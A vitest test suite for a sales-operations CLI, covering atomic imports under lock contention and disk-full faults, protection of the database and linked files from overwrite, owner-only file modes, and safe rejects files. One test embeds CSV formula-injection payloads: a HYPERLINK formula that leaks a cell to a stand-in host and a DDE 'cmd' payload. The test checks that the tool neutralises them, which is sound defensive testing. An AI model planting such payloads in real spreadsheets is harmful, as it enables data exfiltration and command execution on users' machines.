/**
 * Trust (issue 12): an import is all or nothing even when the lock times out or the disk
 * fills; no output can clobber the database, its WAL, the input or a file behind a link;
 * every file salesops writes is owner-only; faults of the machine are said as such.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { once } from 'node:events';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { withRoster, stopped, ROOT, BIN, TEST_ENGINE, type Sandbox, type RunResult } from './harness.js';
import { WRITE_LOCK_KEY } from '../../src/store/pg/pgDb.js';

const FIX = (name: string) => path.join(ROOT, 'fixtures', name);

/** The end-to-end tests run on a server's database (issue 19): what only a SQLite file has is tested on SQLite only. */
const PG = TEST_ENGINE === 'postgres';

/** Every row of every table: the database's content, for "nothing was changed". */
function snapshot(s: Sandbox): string {
  // a server has no rowid: every table's first column is its key there
  const tables = PG
    ? s.query<{ name: string }>('SELECT tablename AS name FROM pg_tables WHERE schemaname = current_schema() ORDER BY name')
    : s.query<{ name: string }>("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name");
  const h = crypto.createHash('sha256');
  for (const { name } of tables) h.update(name + JSON.stringify(s.query(`SELECT * FROM "${name}" ORDER BY ${PG ? '1' : 'rowid'}`)));
  return h.digest('hex');
}

/**
 * Another writer holding the database's write lock until `release()`: the lock is held as
 * long as the test says, not for a time. SQLite: a second process in BEGIN IMMEDIATE. A
 * server: a second connection (the sandbox's own) in a transaction holding the single
 * writer's advisory lock, as every writing command takes it (store/pg/pgDb.ts).
 */
async function holdWriteLock(s: Sandbox): Promise<{ release: () => Promise<void> }> {
  if (PG) {
    s.exec('BEGIN');
    s.exec(`SELECT pg_advisory_xact_lock(${WRITE_LOCK_KEY})`);
    return { release: async () => s.exec('ROLLBACK') };
  }
  const db = s.db;
  const script = `
    const Database = require(${JSON.stringify(path.join(ROOT, 'node_modules/better-sqlite3'))});
    const d = new Database(process.argv[1]);
    d.exec('BEGIN IMMEDIATE');
    d.prepare("INSERT INTO audit_log (action, subject) VALUES ('test', 'lock holder')").run();
    process.stdout.write('locked\\n');
    process.stdin.on('end', () => { d.exec('ROLLBACK'); d.close(); process.exit(0); });
    process.stdin.resume();`;
  const child: ChildProcessWithoutNullStreams = spawn(process.execPath, ['-e', script, db]);
  let out = '';
  child.stdout.setEncoding('utf8');
  while (!out.includes('locked')) {
    const [chunk] = (await once(child.stdout, 'data')) as [string];
    out += chunk;
  }
  return {
    async release() {
      child.stdin.end();
      if (child.exitCode === null) await once(child, 'exit');
    },
  };
}

/** The roster and the surveys of the bundled fixtures. */
async function seeded(): Promise<Sandbox> {
  const s = await withRoster();
  for (const args of [['staff', 'import', FIX('staff.csv')], ['survey', 'import', FIX('surveys.csv')]]) {
    const r = await s.run(args);
    expect(r.code, r.stderr).toBe(0);
  }
  return s;
}

function noStack(r: RunResult): void {
  expect(r.stderr).not.toMatch(/\n\s+at .*:\d+/);
  expect(r.stderr).not.toContain('bug in salesops');
}

/** Files in a folder that salesops left behind (temporary or partial). */
function leftovers(dir: string): string[] {
  return fs.readdirSync(dir).filter((f) => /\.tmp$|\.partial$/.test(f));
}

describe('an import is all or nothing when the write lock is held by another process', () => {
  let s: Sandbox;
  beforeAll(async () => {
    s = await withRoster();
    for (const args of [['staff', 'import', FIX('staff.csv')], ['survey', 'import', FIX('surveys.csv')], ['assign']]) {
      const r = await s.run(args);
      expect(r.code, r.stderr).toBe(0);
    }
  });
  afterAll(() => s.cleanup());

  // every import kind, with the bundled files (valid rows that would change the database)
  it.each([
    ['staff', FIX('staff.csv')],
    ['survey', FIX('surveys-gbk.csv')],
    ['events', FIX('events.csv')],
    ['followups', FIX('followups.csv')],
    ['orders', FIX('orders.csv')],
    ['trips', FIX('trips.csv')],
  ])('%s import: exit 5 (busy, try again), "locked", not a row written, and it waits for the lock once', async (kind, file) => {
    const before = snapshot(s);
    const lock = await holdWriteLock(s);
    let r: RunResult;
    try {
      r = await s.run([kind, 'import', file], { env: { SALESOPS_BUSY_TIMEOUT: '0' } });
    } finally {
      await lock.release();
    }
    expect(r.code, r.stderr).toBe(5);
    expect(r.stderr).toContain('locked by another command for 0 s; nothing was changed');
    noStack(r);
    expect(snapshot(s)).toBe(before);
    // the lock released, the same import goes through
    const again = await s.run([kind, 'import', file]);
    expect(again.code, again.stderr).toBe(0);
  });

  it('expenses import (after its trips) and a file with an invalid row, under the lock: nothing written either', async () => {
    const before = snapshot(s);
    const mixed = s.file('mixed.csv', 'survey_no,name,phone,collector,collected_on\nL1,甲,13500001111,R1,2024-05-01\nL2,乙,1350000,R1,2024-05-01\nL3,丙,13500003333,R2,2024-05-01\n');
    const lock = await holdWriteLock(s);
    const results: RunResult[] = [];
    try {
      results.push(await s.run(['expenses', 'import', FIX('expenses.csv')], { env: { SALESOPS_BUSY_TIMEOUT: '0' } }));
      results.push(await s.run(['survey', 'import', mixed], { env: { SALESOPS_BUSY_TIMEOUT: '0' } }));
      results.push(await s.run(['survey', 'import', mixed, '--skip-invalid', '--rejects', path.join(s.dir, 'rej.csv')], { env: { SALESOPS_BUSY_TIMEOUT: '0' } }));
    } finally {
      await lock.release();
    }
    for (const r of results) {
      expect(r.code, r.stderr).toBe(5); // busy, try again
      expect(r.stderr).toContain('nothing was changed');
    }
    expect(snapshot(s)).toBe(before);
    expect(fs.existsSync(path.join(s.dir, 'rej.csv'))).toBe(false);
    expect(leftovers(s.dir)).toEqual([]);
  });

  it('SALESOPS_BUSY_TIMEOUT that is not a number: a clear error, exit 1', async () => {
    const r = await s.run(['staff', 'list'], { env: { SALESOPS_BUSY_TIMEOUT: 'soon' } });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('SALESOPS_BUSY_TIMEOUT=soon is not a number of seconds');
    noStack(r);
  });
});

describe('no output can clobber the database, its WAL, the input or a linked file', () => {
  let s: Sandbox;
  let bad: string;
  beforeAll(async () => {
    s = await seeded();
    bad = s.file('bad.csv', fs.readFileSync(FIX('surveys-bad.csv'), 'utf8'));
  });
  afterAll(() => s.cleanup());

  /** Runs a command that must be refused: exit 1 (or 2), the message, and every file as it was. */
  async function refused(args: string[], message: string | RegExp, code = 1): Promise<void> {
    const files = [s.db, `${s.db}-wal`, bad].filter((f) => fs.existsSync(f));
    const hashes = files.map((f) => crypto.createHash('sha256').update(fs.readFileSync(f)).digest('hex'));
    const before = snapshot(s);
    const r = await s.run(args);
    expect(r.code, r.stderr).toBe(code);
    expect(r.stderr).toMatch(message);
    noStack(r);
    expect(snapshot(s)).toBe(before);
    // the database's own bytes may only change by SQLite (checkpoint); the input never
    expect(crypto.createHash('sha256').update(fs.readFileSync(bad)).digest('hex')).toBe(hashes[files.indexOf(bad)]);
    expect(leftovers(s.dir)).toEqual([]);
  }

  it.each([
    ['--rejects naming the input', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', bad], /is the file being read/],
    ['--rejects naming a folder', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', s.dir], /is a folder/],
    ['--rejects in a missing folder', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', path.join(s.dir, 'no/such/r.csv')], /does not exist/],
    ['--rejects named .db', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', path.join(s.dir, 'rejects.db')], /named like a database/],
    ['export --out a folder', () => ['export', 'staff', '--out', s.dir], /is a folder/],
    ['export --out a missing folder', () => ['export', 'staff', '--out', path.join(s.dir, 'nope', 'staff.csv')], /does not exist/],
    ['export --out a .sqlite name', () => ['export', 'staff', '--out', path.join(s.dir, 'staff.sqlite')], /named like a database/],
  ])('%s: refused, nothing changed', async (_name, args, message) => {
    await refused(args(), message);
  });

  // the database's own file and its companions: a server's database has none on this machine
  it.skipIf(PG).each([
    ['--rejects naming the database', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', s.db], /is the database/],
    ['--rejects naming the WAL', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', `${s.db}-wal`], /is the database \(or one of its -wal/],
    ['--rejects naming the -shm', () => ['survey', 'import', bad, '--skip-invalid', '--rejects', `${s.db}-shm`], /is the database/],
    ['export --out the database', () => ['export', 'staff', '--out', s.db], /is the database/],
    ['export --out the database by another path', () => ['export', 'staff', '--out', path.join(s.dir, '.', 'x', '..', path.basename(s.db))], /is the database/],
    ['template --out the database', () => ['template', 'surveys', '--out', s.db], /is the database/],
    ['template --out the WAL', () => ['template', 'surveys', '--out', `${s.db}-wal`], /is the database/],
  ])('%s: refused, nothing changed', async (_name, args, message) => {
    await refused(args(), message);
  });

  // a server's database has no file to link to
  it.skipIf(PG)('a hard link to the database is the database', async () => {
    const link = path.join(s.dir, 'link.csv');
    fs.linkSync(s.db, link);
    await refused(['export', 'staff', '--out', link], /is the database/);
    fs.rmSync(link);
  });

  it('template --out a symbolic link: refused, the file it points to untouched', async () => {
    const target = s.file('precious.txt', 'keep me\n');
    const link = path.join(s.dir, 'template.csv');
    fs.symlinkSync(target, link);
    await refused(['template', 'surveys', '--out', link], /symbolic link/);
    expect(fs.readFileSync(target, 'utf8')).toBe('keep me\n');
    expect(fs.lstatSync(link).isSymbolicLink()).toBe(true);
  });

  it('an existing SQLite file under a .csv name is not overwritten', async () => {
    const other = path.join(s.dir, 'other.csv');
    // on a server, some other SQLite file (the database is not one)
    if (PG) new Database(other).exec('CREATE TABLE t (x)').close();
    else fs.copyFileSync(s.db, other);
    const hash = crypto.createHash('sha256').update(fs.readFileSync(other)).digest('hex');
    await refused(['export', 'staff', '--out', other], /is a SQLite database[^]*what to do: name it \.csv \(or \.json\/\.tsv\/\.xlsx\), e\.g\. \S*other\.csv\n/);
    expect(crypto.createHash('sha256').update(fs.readFileSync(other)).digest('hex')).toBe(hash);
    fs.rmSync(other);
  });
});

describe('every file salesops writes is owner-only, written whole', () => {
  let s: Sandbox;
  beforeAll(async () => {
    s = await seeded();
  });
  afterAll(() => s.cleanup());
  const mode = (f: string) => fs.statSync(f).mode & 0o777;

  it('template, masked and plain exports, rejects: mode 0600, replacing an older file of mode 0644', async () => {
    const outs = {
      template: path.join(s.dir, 'template.csv'),
      customers: path.join(s.dir, 'customers.csv'),
      staff: path.join(s.dir, 'staff.json'),
      rejects: path.join(s.dir, 'rejects.csv'),
    };
    for (const f of Object.values(outs)) fs.writeFileSync(f, 'old\n', { mode: 0o644 });
    const runs = [
      await s.run(['template', 'surveys', '--out', outs.template]),
      await s.run(['export', 'customers', '--out', outs.customers]),
      await s.run(['export', 'staff', '--out', outs.staff]),
      await s.run(['survey', 'import', FIX('surveys-bad.csv'), '--skip-invalid', '--rejects', outs.rejects]),
    ];
    expect(runs.map((r) => r.code)).toEqual([0, 0, 0, 3]);
    for (const [name, f] of Object.entries(outs)) {
      expect(mode(f), name).toBe(0o600);
      expect(fs.readFileSync(f, 'utf8'), name).not.toBe('old\n');
    }
    expect(fs.readdirSync(s.dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  // a file's mode: a server's database is no file of this machine (its access is the server's roles)
  it.skipIf(PG)('init on an existing database readable by others makes it owner-only; other commands warn', async () => {
    fs.chmodSync(s.db, 0o644);
    const list = await s.run(['staff', 'list']);
    expect(list.code).toBe(0);
    expect(list.stderr).toContain('is readable by other users of this machine (mode 0644)');
    const init = await s.run(['init']);
    expect(init.code).toBe(0);
    expect(mode(s.db)).toBe(0o600);
    expect((await s.run(['staff', 'list'])).stderr).not.toContain('readable by other users');
  });
});

describe('faults of the machine: said as such, exit 1, nothing half-written, no temporary file left', () => {
  let s: Sandbox;
  let big: string;
  beforeAll(async () => {
    s = await seeded();
    const lines = ['survey_no,name,phone,address,district,collector,collected_on'];
    for (let i = 0; i < 8_000; i++) lines.push(`K${i},客户${i},139${String(i).padStart(8, '0')},浙江省金华市浦江县和平路${i % 500}号,330726,${i % 2 ? 'R1' : 'R2'},2024-03-1${i % 9}`);
    big = s.file('big.csv', lines.join('\n') + '\n');
  });
  afterAll(() => s.cleanup());

  /**
   * Runs salesops with a file-size limit (RLIMIT_FSIZE, `ulimit -f` in KiB): a write past it
   * fails as on a full disk (EFBIG; Node ignores SIGXFSZ), for any user, on any machine.
   */
  function withFileLimit(kib: number, args: string[]): Promise<RunResult> {
    return new Promise((resolve) => {
      const cmd = `ulimit -f ${kib}; exec "$0" "$@"`;
      const child = spawn('bash', ['-c', cmd, process.execPath, BIN, '--db', s.db, '--lang', 'en', '--as-of', '2024-07-31', ...args], {
        cwd: s.dir,
        env: { ...process.env, NO_COLOR: '1', SALESOPS_DB: '' },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
      child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
      child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
    });
  }

  // the file that fills is the database's own: a server's database is written on the server
  it.skipIf(PG)('an import that fills the disk: exit 1, not a row written, the database intact', async () => {
    const before = snapshot(s);
    const size = fs.statSync(s.db).size;
    const r = await withFileLimit(Math.ceil(size / 1024) + 64, ['survey', 'import', big]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/disk (is full|reported an error)/);
    expect(r.stderr).toContain('nothing was changed');
    noStack(r);
    expect(snapshot(s)).toBe(before);
    expect(s.query('PRAGMA integrity_check')).toEqual([{ integrity_check: 'ok' }]);
  });

  it('a rejects file that fills the disk: exit 1, no rejects file, no row written, no temporary file', async () => {
    // every row of the big file rejected, for a collector nobody has: a rejects file of 2 MB
    const rejectsAll = s.file('rej-all.csv', fs.readFileSync(big, 'utf8').replace(/,R[12],/g, ',无名氏,'));
    const before = snapshot(s);
    const rej = path.join(s.dir, 'rejects.csv');
    // room for the database to grow (on a server it grows there), not for 2 MB of rejects
    const r = await withFileLimit((PG ? 0 : Math.ceil(fs.statSync(s.db).size / 1024)) + 256, ['survey', 'import', rejectsAll, '--skip-invalid', '--rejects', rej]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/the disk is full while writing .*rejects\.csv/);
    noStack(r);
    expect(fs.existsSync(rej)).toBe(false);
    expect(snapshot(s)).toBe(before);
    expect(leftovers(s.dir)).toEqual([]);
  });

  it('an export that fills the disk: exit 1, no file, no temporary file, not audited as done', async () => {
    expect((await s.run(['survey', 'import', big])).code).toBe(0);
    const audits = s.query('SELECT count(*) AS n FROM audit_log');
    const out = path.join(s.dir, 'customers.csv');
    // 64 KiB: room for SQLite's 32 KiB -shm file, not for 8,000 customers
    const exp = await withFileLimit(64, ['export', 'customers', '--out', out]);
    expect(exp.code, exp.stderr).toBe(1);
    expect(exp.stderr).toContain('the disk is full while writing');
    noStack(exp);
    expect(fs.existsSync(out)).toBe(false);
    expect(leftovers(s.dir)).toEqual([]);
    expect(s.query('SELECT count(*) AS n FROM audit_log')).toEqual(audits);
  });

  it('a backup that fills the disk: exit 1, said as such, no backup, no temporary file, not audited', async () => {
    const audits = s.query('SELECT count(*) AS n FROM audit_log');
    const target = path.join(s.dir, 'nightly.db');
    // a server's backup is a compressed pg_dump archive: these 8,000 customers fit in 64 KiB
    const r = await withFileLimit(PG ? 16 : 64, ['backup', target]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/disk is full|disk reported an error/);
    noStack(r);
    expect(fs.existsSync(target)).toBe(false);
    expect(fs.readdirSync(s.dir).filter((f) => f.startsWith('.nightly') || f.startsWith('nightly'))).toEqual([]);
    expect(s.query('SELECT count(*) AS n FROM audit_log')).toEqual(audits);
  });

  // a file's permissions: a server's database is made read-only by its roles (not by chmod)
  it.skipIf(PG)('a read-only database: a clear message, exit 1', async () => {
    // as root, permissions do not stop writes: the command runs as nobody then
    const asNobody = process.getuid?.() === 0;
    fs.chmodSync(s.dir, 0o755);
    fs.chmodSync(s.db, asNobody ? 0o644 : 0o444);
    try {
      const r = asNobody
        ? await new Promise<RunResult>((resolve) => {
            const child = spawn(process.execPath, [BIN, '--db', s.db, '--lang', 'en', 'survey', 'import', FIX('surveys-gbk.csv')], { uid: 65534, gid: 65534, env: { ...process.env, NO_COLOR: '1' } });
            let stderr = '';
            child.stdout.resume();
            child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
            child.on('close', (code) => resolve({ code: code ?? -1, stdout: '', stderr }));
          })
        : await s.run(['survey', 'import', FIX('surveys-gbk.csv')]);
      expect(r.code, r.stderr).toBe(1);
      if (asNobody) {
        // SQLite opens the file read-only (SQLITE_READONLY) — unless it cannot open the -wal/-shm
        // files an earlier command left (SQLITE_CANTOPEN): then why it cannot open it
        expect(r.stderr).toMatch(/is read-only; nothing was changed|cannot open the database .*test\.db: permission denied: you may read it but not write it; nothing was changed/);
      } else expect(r.stderr).toContain('is read-only; nothing was changed');
      noStack(r);
    } finally {
      fs.chmodSync(s.db, 0o600);
      fs.chmodSync(s.dir, 0o700);
    }
  });
});

describe('the rejects file is safe to open in Excel and re-imports as it was', () => {
  it('formulas neutralised with a leading apostrophe; fixed and re-imported, the original text comes back', async () => {
    const s = await withRoster();
    const evil = '=HYPERLINK("http://x.example/?"&A1,"点我")';
    const cmd = "=cmd|' /C calc'!A0";
    const file = s.file('evil.csv', `survey_no,name,phone,address,collector,collected_on\nE1,"${evil.replace(/"/g, '""')}",1390000,"${cmd}",R1,2024-05-01\nE2,正常,13900002222,,R1,2024-05-01\n`);
    const rejects = path.join(s.dir, 'rejects.csv');
    const r = await s.run(['survey', 'import', file, '--skip-invalid', '--rejects', rejects]);
    expect(r.code, r.stderr).toBe(3);
    const text = fs.readFileSync(rejects, 'utf8');
    expect(text).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(text).toContain(`'${cmd}`);
    expect(text.split('\r\n').slice(1).some((line) => /(^|,)[=+\-@]/.test(line))).toBe(false);
    // the clerk fixes the phone in the rejects file and imports it again
    fs.writeFileSync(rejects, text.replace(',1390000,', ',13900001111,'));
    const again = await s.run(['survey', 'import', rejects]);
    expect(again.code, again.stderr).toBe(0);
    expect(s.query("SELECT name, address FROM customers WHERE survey_no = 'E1'")).toEqual([{ name: evil, address: cmd }]);
    s.cleanup();
  });

  it('a cell with a line break (Alt+Enter in Excel) is quoted as in every export: one record, and it re-imports as it was', async () => {
    const s = await withRoster();
    const file = s.file('multiline.csv', 'survey_no,name,phone,address,collector,collected_on\nE1,张三,1390000,"上海\n浦东",R1,2024-05-01\nE2,李四,1390001,"a\rb",R1,2024-05-01\n');
    const rejects = path.join(s.dir, 'rejects.csv');
    const r = await s.run(['survey', 'import', file, '--skip-invalid', '--rejects', rejects]);
    expect(r.code, r.stderr).toBe(3);
    const text = fs.readFileSync(rejects, 'utf8');
    expect(text.startsWith('\ufeffsurvey_no,name,phone,address,collector,collected_on,error\r\n')).toBe(true);
    // a bare LF or CR unquoted would start a new row in Excel
    expect(text).toContain(',1390000,"上海\n浦东",R1,');
    expect(text).toContain(',1390001,"a\rb",R1,');
    expect(text.trimEnd().split('\r\n')).toHaveLength(3);
    fs.writeFileSync(rejects, text.replace(',1390000,', ',13900001111,').replace(',1390001,', ',13900002222,'));
    const again = await s.run(['survey', 'import', rejects]);
    expect(again.code, again.stderr).toBe(0);
    expect(s.query('SELECT survey_no, address FROM customers ORDER BY survey_no')).toEqual([
      { survey_no: 'E1', address: '上海\n浦东' },
      { survey_no: 'E2', address: 'a\rb' },
    ]);
    s.cleanup();
  });
});

describe('the rejects file cannot take its name after the rows are committed', () => {
  it('the summary of what was imported, a warning with the count and what to do, exit 1; the same import again writes the rejects file', async () => {
    const s = await withRoster();
    const bad = s.file('bad.csv', fs.readFileSync(FIX('surveys-bad.csv'), 'utf8'));
    const rejects = path.join(s.dir, 'rejects.csv');
    const args = ['--db', s.db, '--lang', 'en', '--as-of', '2024-07-31', 'survey', 'import', bad, '--skip-invalid', '--rejects', rejects];
    // stopped right after COMMIT (SALESOPS_TEST_PAUSE), a folder takes the rejects file's name
    const r = await new Promise<RunResult>((resolve) => {
      const child = spawn(process.execPath, [BIN, ...args], { cwd: s.dir, env: { ...process.env, NO_COLOR: '1', SALESOPS_DB: '', SALESOPS_TEST_PAUSE: 'import.committed' } });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
      child.stderr.setEncoding('utf8').on('data', (d: string) => {
        stderr += d;
        if (d.includes('salesops: paused at import.committed\n')) {
          void stopped(child.pid!).then(() => {
            fs.mkdirSync(rejects);
            child.kill('SIGCONT');
          });
        }
      });
      child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
    });
    expect(r.code, r.stderr).toBe(1);
    noStack(r);
    const summary = /imported (\d+) rows — (\d+) new, 0 updated, 0 unchanged, (\d+) rejected/.exec(r.stderr);
    expect(summary, r.stderr).not.toBeNull();
    const [, , imported, rejected] = summary!.map(Number);
    expect(imported).toBeGreaterThan(0);
    expect(rejected).toBeGreaterThan(0);
    expect(r.stderr).toContain(`the other rows were imported, but the ${rejected} rejected rows could not be written to ${rejects}`);
    expect(r.stderr).toContain('run the same import again with --rejects naming a file you can write');
    expect(r.stderr).not.toContain('rejected rows were written to the rejects file');
    expect(s.query('SELECT count(*) AS n FROM customers')).toEqual([{ n: imported }]);
    expect(leftovers(s.dir)).toEqual([]);
    // as the warning says: the same import again, the folder out of the way
    fs.rmdirSync(rejects);
    const again = await s.run(['survey', 'import', bad, '--skip-invalid', '--rejects', rejects]);
    expect(again.code, again.stderr).toBe(3);
    expect(again.stderr).toContain(`0 new, 0 updated, ${imported} unchanged, ${rejected} rejected`);
    expect(fs.readFileSync(rejects, 'utf8').trimEnd().split('\r\n')).toHaveLength(rejected + 1);
    s.cleanup();
  });
});

describe('a database that cannot be opened, and names too long', () => {
  it('--db naming a folder: "cannot open the database … it is a folder", not "read-only"; exit 1', async () => {
    const s = await withRoster();
    const folder = path.join(s.dir, 'data');
    fs.mkdirSync(folder);
    const r = await s.run(['--db', folder, 'survey', 'import', FIX('surveys.csv')]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`cannot open the database ${folder}: it is a folder, not a database file; nothing was changed`);
    expect(r.stderr).not.toContain('read-only');
    noStack(r);
    s.cleanup();
  });

  it('an output name of 255 bytes is written (its temporary name is short); one over 255 bytes is refused with a clear message', async () => {
    const s = await withRoster();
    const long = path.join(s.dir, 'x'.repeat(251) + '.csv');
    const ok = await s.run(['template', 'staff', '--out', long]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(fs.readFileSync(long, 'utf8')).toMatch(/^\ufeffstaff_id,/);
    const tooLong = path.join(s.dir, '员工'.repeat(43) + '.csv');
    const r = await s.run(['template', 'staff', '--out', tooLong]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/the file name .* is too long \(262 bytes; file systems take at most 255\)/);
    noStack(r);
    expect(leftovers(s.dir)).toEqual([]);
    s.cleanup();
  });
});
